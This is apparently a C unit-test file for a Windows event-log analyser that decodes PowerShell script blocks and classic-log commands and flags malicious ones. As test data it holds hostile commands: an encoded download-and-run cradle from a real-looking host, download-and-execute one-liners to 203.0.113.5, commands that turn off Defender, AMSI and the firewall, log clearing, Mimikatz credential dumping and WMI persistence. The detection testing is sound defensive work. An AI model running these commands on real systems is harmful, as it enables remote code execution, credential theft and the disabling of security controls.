/* PowerShell: script blocks, pipeline details and the classic log, encoded or not, in every language of Windows. */
#include "made_log.h"

#include <stdio.h>
#include <stdlib.h>

#define POWERSHELL "Microsoft-Windows-PowerShell/Operational"
#define CLASSIC "Windows PowerShell"

static void block(made *m, const char *text, const char *path)
{
    made_event(m, POWERSHELL, 4104, evtx_u32("MessageNumber", 1), evtx_u32("MessageTotal", 1), evtx_str("ScriptBlockText", text),
               evtx_str("ScriptBlockId", "37f6d110-cfdf-4118-8748-17638e258531"), evtx_str("Path", path));
}

static void classic(made *m, uint32_t id, const char *first, const char *second, const char *context)
{
    made_put(m, (evtx_out){ .kind = EVTX_CLASSIC, .channel = CLASSIC, .id = id, .fields = EVTX_FIELDS(evtx_str(NULL, first), evtx_str(NULL, second), evtx_str(NULL, context)) });
}

static void lawful_scripts_are_not_noted(void **state)
{
    (void)state;
    made *m = made_begin();
    block(m, "prompt", "");
    block(m, "Get-Service | Where-Object { $_.Status -eq 'Running' } | Export-Csv 服务.csv", "");
    block(m, "{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }", "");
    classic(m, 400, "Available", "None", "\tNewEngineState=Available\r\n\r\n\tHostName=ConsoleHost\r\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n\tEngineVersion=2.0");
    classic(m, 600, "WSMan", "Started", "\tProviderName=WSMan\r\n\tHostApplication=powershell.exe -File D:\\脚本\\备份.ps1\r\n");
    made_read(m);
    assert_int_equal(made_acts(m, NULL), 0);
    made_end(m);
}

static void encoded_commands_of_the_classic_log_are_decoded(void **state)
{
    (void)state;
    /* The texts before the block are in the system's language; the block never is. */
    static const char *const states[][2] = { { "Available", "None" }, { "可用", "无" } };
    for (size_t i = 0; i < 2; i++) {
        made *m = made_begin();
        for (int again = 0; again < 3; again++)
            classic(m, again == 2 ? 600 : 400, states[i][0], states[i][1],
                    "\tNewEngineState=Available\r\n\tHostApplication=powershell -ep bypass -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdgAuAGIAZQBhAGgAaAAuAGMAbwBtAC8AdgAnACkA\r\n\tEngineVersion=2.0\r\n");
        made_read(m);
        assert_int_equal(made_acts(m, "script.block"), 1);
        const act *a = made_act(m, "script.block", 0);
        assert_fact(a, "encoded", "yes");
        assert_fact(a, "text", "IEX (New-Object Net.WebClient).DownloadString('http://v.beahh.com/v')");
        assert_fact(a, "urls", "http://v.beahh.com/v");
        assert_fact(a, "family", "drivelife");
        assert_finding(a, "script-execution", SEVERITY_CRITICAL);
        made_end(m);
    }
}

static void a_block_that_says_what_it_does_is_a_finding(void **state)
{
    (void)state;
    static const struct { const char *text, *looks, *finding; severity least; } blocks[] = {
        { "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')", "download-run", "script-execution", SEVERITY_HIGH },
        { "iwr http://203.0.113.5/a.ps1 | iex", "download-run", "script-execution", SEVERITY_HIGH },
        { "Set-MpPreference -DisableRealtimeMonitoring $true", "defender-off", "defence-off", SEVERITY_HIGH },
        { "Clear-EventLog -LogName Security", "log-cleared", "log-cleared", SEVERITY_HIGH },
        { "Invoke-Mimikatz -DumpCreds", "lsass-dump", "credential-theft", SEVERITY_CRITICAL },
        { "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi-off", "defence-off", SEVERITY_HIGH },
        { "import-module c:\\windows\\temp\\m.ps1;Invoke-Cats -pwds", "lsass-dump", "script-execution", SEVERITY_CRITICAL },
        { "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer", "wmi-made", "wmi-persistence", SEVERITY_HIGH },
        { "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", "firewall-off", "firewall-change", SEVERITY_HIGH },
        { "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc -ComputerName DB2", "remote-powershell", "remote-execution", SEVERITY_MEDIUM },
    };
    for (size_t i = 0; i < sizeof blocks / sizeof *blocks; i++) {
        made *m = made_begin();
        block(m, blocks[i].text, "");
        made_read(m);
        const act *a = made_act(m, "script.block", 0);
        assert_finding(a, blocks[i].finding, blocks[i].least);
        assert_lists(a, "looks", blocks[i].looks);
        made_end(m);
    }
}

static void words_in_the_body_of_a_script_file_weigh_little(void **state)
{
    (void)state;
    made *m = made_begin();
    block(m, "function Get-File { (New-Object Net.WebClient).DownloadFile($url, $to) }", "C:\\ProgramData\\chocolatey\\helpers\\Get-File.ps1");
    block(m, "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", "");
    made_read(m);
    assert_int_equal(made_acts(m, "script.block"), 2);
    for (size_t i = 0; i < 2; i++)
        assert_true(made_act(m, "script.block", i)->severity <= SEVERITY_LOW);
    made_end(m);
}

static void an_installers_host_excuses_nothing_else(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "iex ((New-Object Net.WebClient).DownloadString('https://chocolatey.org.example.net/install.ps1'))",
        "iex ((New-Object Net.WebClient).DownloadString('https://chocolatey.org:x@example.net/install.ps1'))",
        "iex ((New-Object Net.WebClient).DownloadString('https://notchocolatey.org/install.ps1'))",
        "# https://chocolatey.org/\niex ((New-Object Net.WebClient).DownloadString('http://example.net/'))",
    };
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        made *m = made_begin();
        block(m, texts[i], "");
        made_read(m);
        assert_finding(made_act(m, "script.block", 0), "script-execution", SEVERITY_HIGH);
        made_end(m);
    }
}

static void pipeline_details_name_their_host_in_any_language(void **state)
{
    (void)state;
    static const char *const contexts[] = {
        "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -nop -w hidden -c x\r\n        Command Name = Set-MpPreference\r\n        User = DB1\\Administrator\r\n",
        "        严重性 = Informational\r\n        主机名 = ConsoleHost\r\n        主机应用程序 = powershell.exe -nop -w hidden -c x\r\n        命令名称 = Set-MpPreference\r\n        用户 = DB1\\管理员\r\n",
    };
    for (size_t i = 0; i < 2; i++) {
        made *m = made_begin();
        made_event(m, POWERSHELL, 4103, evtx_str("ContextInfo", contexts[i]), evtx_str("UserData", ""),
                   evtx_str("Payload", "CommandInvocation(Set-MpPreference): \"Set-MpPreference\"\r\nParameterBinding(Set-MpPreference): name=\"DisableRealtimeMonitoring\"; value=\"True\"\r\n"));
        made_event(m, POWERSHELL, 4103, evtx_str("ContextInfo", contexts[i]), evtx_str("Payload", "CommandInvocation(Out-Default): \"Out-Default\"\r\n"));
        made_read(m);
        const act *a = made_act(m, "script.block", 0);
        assert_fact(a, "command", "powershell.exe -nop -w hidden -c x");
        assert_finding(a, "defence-off", SEVERITY_HIGH);
        assert_int_equal(made_acts(m, "script.block"), 1);
        made_end(m);
    }
}

static void base64_rubbish_is_no_text(void **state)
{
    (void)state;
    static const char *const rubbish[] = {
        "powershell -enc ", "powershell -enc \"", "powershell -enc AAAAAAAAAAAAAAAAAAAAAAAAAAAA", "powershell -e ////////////////////////",
        "powershell -e 2D7YPtg+2D7YPtg+2D7YPtg+2D7YPtg+", "powershell -enc QQA=", "powershell -enc !!!!", "x -e SQBFAFgA\xe2\x80\xa6", "FromBase64String('", "FromBase64String(FromBase64String(FromBase64String(",
    };
    made *m = made_begin();
    for (size_t i = 0; i < sizeof rubbish / sizeof *rubbish; i++)
        block(m, rubbish[i], "");
    made_read(m);
    for (size_t i = 0; i < m->acts.count; i++)
        assert_no_fact((const act *)vec_at(&m->acts, i), "encoded");
    made_end(m);
}

static void what_is_said_a_thousand_times_is_noted_once(void **state)
{
    (void)state;
    made *m = made_begin();
    for (int i = 0; i < 1000; i++)
        block(m, "Clear-EventLog -LogName Security", "");
    for (int i = 0; i < 9000; i++) {
        char text[80];
        snprintf(text, sizeof text, "Clear-EventLog -LogName Log%d", i);
        block(m, text, "");
    }
    made_read(m);
    assert_int_equal(made_act(m, "script.block", 0)->record, 1);
    assert_string_equal(fact_of(made_act(m, "script.block", 1), "text"), "Clear-EventLog -LogName Log0");
    assert_true(m->cut > 0);
    made_end(m);
}

static void hostile_records_are_borne(void **state)
{
    (void)state;
    made *m = made_begin();
    made_hostile_fields(m, POWERSHELL, NULL, 4104, "ScriptBlockText", "Path", "MessageNumber", "ScriptBlockId");
    made_hostile_fields(m, POWERSHELL, NULL, 4103, "ContextInfo", "Payload", "UserData");
    made_hostile_fields(m, CLASSIC, NULL, 400, "a", "b", "c");
    made_hostile_fields(m, CLASSIC, NULL, 800, "a", "b", "c");
    char *text = malloc(24001);
    for (size_t i = 0; i < 24000; i++)
        text[i] = "-e http://`[char]"[i % 17];
    text[24000] = 0;
    block(m, text, "x");
    classic(m, 800, "x", text, "\tHostApplication=\tHostApplication=");
    free(text);
    made_read(m);
    assert_true(m->records > 200);
    made_end(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lawful_scripts_are_not_noted),
        cmocka_unit_test(encoded_commands_of_the_classic_log_are_decoded),
        cmocka_unit_test(a_block_that_says_what_it_does_is_a_finding),
        cmocka_unit_test(words_in_the_body_of_a_script_file_weigh_little),
        cmocka_unit_test(an_installers_host_excuses_nothing_else),
        cmocka_unit_test(pipeline_details_name_their_host_in_any_language),
        cmocka_unit_test(base64_rubbish_is_no_text),
        cmocka_unit_test(what_is_said_a_thousand_times_is_noted_once),
        cmocka_unit_test(hostile_records_are_borne),
    };
    return cmocka_run_group_tests(tests, made_set_up, made_tear_down);
}
